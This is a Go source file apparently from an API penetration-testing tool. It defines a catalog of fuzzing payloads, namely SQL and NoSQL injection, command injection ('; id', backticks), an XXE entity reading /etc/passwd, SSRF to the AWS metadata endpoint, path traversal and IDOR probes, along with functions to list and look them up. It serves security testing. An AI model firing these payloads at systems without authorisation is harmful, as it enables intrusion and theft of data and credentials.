// Package payloads holds the fuzzing payload catalog.
package payloads

import "github.com/PentesterFlow/apiprobe/internal/model"

var catalog = []model.FuzzingPayload{
	{Name: "SQL Injection - Single Quote", Payload: "'", ExpectedBehavior: "SQL error or different response", Category: model.CategoryInjection},
	{Name: "SQL Injection - OR 1=1", Payload: "' OR '1'='1", ExpectedBehavior: "Bypass or data disclosure", Category: model.CategoryInjection},
	{Name: "SQL Injection - Union", Payload: "' UNION SELECT 1,2,3--", ExpectedBehavior: "SQL error or data disclosure", Category: model.CategoryInjection},
	{Name: "SQL Injection - Time-based", Payload: "'; WAITFOR DELAY '00:00:05'--", ExpectedBehavior: "5 second delay", Category: model.CategoryInjection},
	{Name: "NoSQL Injection - MongoDB", Payload: `{"$ne": null}`, ExpectedBehavior: "Bypass or data disclosure", Category: model.CategoryInjection},
	{Name: "NoSQL Injection - MongoDB $where", Payload: `{"$where": "sleep(5000)"}`, ExpectedBehavior: "5 second delay", Category: model.CategoryInjection},
	{Name: "Command Injection - Semicolon", Payload: "; id", ExpectedBehavior: "Command output in response", Category: model.CategoryInjection},
	{Name: "Command Injection - Pipe", Payload: "| id", ExpectedBehavior: "Command output in response", Category: model.CategoryInjection},
	{Name: "Command Injection - Backticks", Payload: "`id`", ExpectedBehavior: "Command output in response", Category: model.CategoryInjection},
	{Name: "XXE - External Entity", Payload: `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM "file:///etc/passwd">]><root>&test;</root>`, ExpectedBehavior: "File content in response", Category: model.CategoryXXE},
	{Name: "SSRF - Localhost", Payload: "http://localhost:8080", ExpectedBehavior: "Internal service response", Category: model.CategorySSRF},
	{Name: "SSRF - Internal IP", Payload: "http://169.254.169.254/latest/meta-data/", ExpectedBehavior: "AWS metadata response", Category: model.CategorySSRF},
	{Name: "Path Traversal - Basic", Payload: "../../../etc/passwd", ExpectedBehavior: "File content in response", Category: model.CategoryInjection},
	{Name: "Path Traversal - URL Encoded", Payload: "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", ExpectedBehavior: "File content in response", Category: model.CategoryInjection},
	{Name: "IDOR - Sequential ID", Payload: "1", ExpectedBehavior: "Access to other user's data", Category: model.CategoryIDOR},
	{Name: "IDOR - UUID Pattern", Payload: "00000000-0000-0000-0000-000000000001", ExpectedBehavior: "Access to other user's data", Category: model.CategoryIDOR},
}

// All returns the catalog in its fixed order. The slice is a copy.
func All() []model.FuzzingPayload {
	out := make([]model.FuzzingPayload, len(catalog))
	copy(out, catalog)
	return out
}

// ByCategory returns the payloads tagged with cat.
func ByCategory(cat model.Category) []model.FuzzingPayload {
	var out []model.FuzzingPayload
	for _, p := range catalog {
		if p.Category == cat {
			out = append(out, p)
		}
	}
	return out
}

// Find returns the payload with the given name.
func Find(name string) (model.FuzzingPayload, bool) {
	for _, p := range catalog {
		if p.Name == name {
			return p, true
		}
	}
	return model.FuzzingPayload{}, false
}
